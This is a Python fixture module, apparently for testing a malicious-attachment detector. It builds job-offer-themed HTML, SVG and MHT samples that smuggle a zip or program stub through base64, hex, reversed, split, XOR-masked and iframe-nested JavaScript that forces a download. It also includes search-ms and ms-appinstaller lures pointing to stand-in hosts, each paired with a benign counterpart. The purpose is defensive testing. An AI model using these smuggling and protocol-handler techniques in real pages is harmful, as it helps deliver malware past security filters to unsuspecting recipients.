"""Constructions in pages and web archives."""

from __future__ import annotations

import base64
import json
from functools import partial

from lure.attachment.builders.objects import STUB
from lure.attachment.builders.packages import packed
from lure.attachment.construction import Construction, row

_ZIP = packed(
    {"offer.txt": "Details of the position, in a longer text so that it packs well. " * 4}
)

_LETTERS = base64.b64encode(_ZIP).decode()

_PNG = base64.b64encode(b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 4).decode()

_SAVE = (
    "var b=new Blob([u]);var a=document.createElement('a');"
    "a.href=URL.createObjectURL(b);a.download='offer.zip';a.click();"
)
_MASKED = base64.b64encode(bytes(byte ^ 0x5A for byte in _ZIP * 4)).decode()

_UNPACK = (
    "var s=atob(d);var u=new Uint8Array(s.length);for(var i=0;i<s.length;i++)u[i]=s.charCodeAt(i);"
)


def _page(script: str = "", body: str = "<p>About the position</p>") -> bytes:
    code = f"<script>{script}</script>" if script else ""
    head = f"<head><title>Offer</title>{code}</head>"
    return f"<!DOCTYPE html><html>{head}<body>{body}</body></html>".encode()


def _framed(inner: bytes) -> bytes:
    address = f"data:text/html;base64,{base64.b64encode(inner).decode()}"
    return _page(body=f'<iframe src="{address}"></iframe>')


def _in_pieces(letters: str) -> str:
    return '"+"'.join(letters[at : at + 40] for at in range(0, len(letters), 40))


def _numbers(data: bytes) -> str:
    return ",".join(str(byte) for byte in data)


def _svg(inner: str) -> bytes:
    return f'<svg xmlns="http://www.w3.org/2000/svg">{inner}</svg>'.encode()


def _archive(page: bytes) -> bytes:
    head = (
        "From: <Saved by Browser>\r\nSnapshot-Content-Location: https://careers.example/\r\n"
        "Subject: x\r\nMIME-Version: 1.0\r\nContent-Type: multipart/related;\r\n"
        '\tboundary="--b"\r\n\r\n'
    )
    part = (
        "----b\r\nContent-Type: text/html\r\nContent-Transfer-Encoding: base64\r\n"
        "Content-Location: https://careers.example/index.html\r\n\r\n"
    )
    return head.encode() + part.encode() + base64.encodebytes(page) + b"\r\n----b--\r\n"


ROWS: tuple[Construction, ...] = (
    row(
        "page: archive in base64, saved",
        "offer.html",
        partial(_page, f'var d="{_LETTERS}";{_UNPACK}{_SAVE}'),
        "html_smuggling",
        partial(_page, f'var i="data:image/png;base64,{_PNG}";'),
    ),
    row(
        "page: archive in a data link",
        "offer.html",
        partial(
            _page,
            body=f'<a download="offer.zip" href="data:application/zip;base64,{_LETTERS}">x</a>',
        ),
        "html_smuggling",
        partial(_page, body=f'<img src="data:image/png;base64,{_PNG}">'),
    ),
    row(
        "page: archive in pieces",
        "offer.html",
        partial(_page, f'var d="{_in_pieces(_LETTERS)}";{_UNPACK}{_SAVE}'),
        "html_smuggling",
        partial(_page, 'document.title="a"+"b";'),
    ),
    row(
        "page: archive backwards",
        "offer.html",
        partial(_page, f'var d="{_LETTERS[::-1]}";{_UNPACK}{_SAVE}'),
        "html_smuggling",
        partial(_page, "console.log(1)"),
    ),
    row(
        "page: archive as numbers",
        "offer.html",
        partial(_page, f"var u=new Uint8Array([{_numbers(_ZIP)}]);{_SAVE}"),
        "html_smuggling",
        partial(_page, f"var u=[{_numbers(bytes(range(200)))}];"),
    ),
    row(
        "page: archive in hexadecimal",
        "offer.html",
        partial(_page, f'var d="{_ZIP.hex()}";{_SAVE}'),
        "html_smuggling",
        partial(_page, f'var color="{"a0b1c2" * 20}";'),
    ),
    row(
        "page: archive in escapes",
        "offer.html",
        lambda: _page('var d="' + "".join(f"\\x{byte:02x}" for byte in _ZIP) + f'";{_SAVE}'),
        "html_smuggling",
        _page,
    ),
    row(
        "page: program in base64",
        "offer.html",
        partial(_page, f'var d="{base64.b64encode(STUB).decode()}";{_UNPACK}{_SAVE}'),
        "html_smuggling program_attached".replace(" program_attached", ""),
        _page,
    ),
    row(
        "page: archive in two coats of base64",
        "offer.html",
        partial(_page, f'var d="{base64.b64encode(_LETTERS.encode()).decode()}";{_UNPACK}{_SAVE}'),
        "html_smuggling",
        _page,
    ),
    row(
        "page: masked file put together by script",
        "offer.html",
        partial(
            _page,
            f'var d="{_MASKED}";{_UNPACK}u=u.map(c=>c^90);{_SAVE}',
        ),
        "html_smuggling not_inspected",
        partial(_page, f'var t="{_MASKED}";'),
    ),
    row(
        "page: saves through the old browser's way",
        "offer.html",
        partial(
            _page,
            f'var d="{_LETTERS}";{_UNPACK}navigator.msSaveOrOpenBlob(new Blob([u]),"offer.zip")',
        ),
        "html_smuggling",
        _page,
    ),
    row(
        "page: page within a page",
        "offer.html",
        lambda: _framed(_page(f"var d={json.dumps(_LETTERS)};{_UNPACK}{_SAVE}")),
        "html_smuggling",
        lambda: _framed(_page()),
    ),
    row(
        "page: protocol handler",
        "offer.html",
        partial(
            _page, body='<a href="search-ms:query=offer&crumb=location:\\\\files.example\\s">x</a>'
        ),
        "external_link",
        partial(_page, body='<a href="https://careers.example">x</a>'),
    ),
    row(
        "page: installer protocol",
        "offer.html",
        partial(_page, 'location="ms-appinstaller:?source=https://docs.example/x.msix"'),
        "external_link",
        partial(_page, 'location="https://careers.example"'),
    ),
    row(
        "svg: archive in it",
        "logo.svg",
        partial(_svg, f'<script>var d="{_LETTERS}";{_UNPACK}{_SAVE}</script>'),
        "html_smuggling",
        partial(_svg, f'<image href="data:image/png;base64,{_PNG}"/>'),
    ),
    row(
        "mht: archive in a saved page",
        "offer.mht",
        lambda: _archive(_page(f'var d="{_LETTERS}";{_UNPACK}{_SAVE}')),
        "html_smuggling",
        lambda: _archive(_page()),
    ),
)
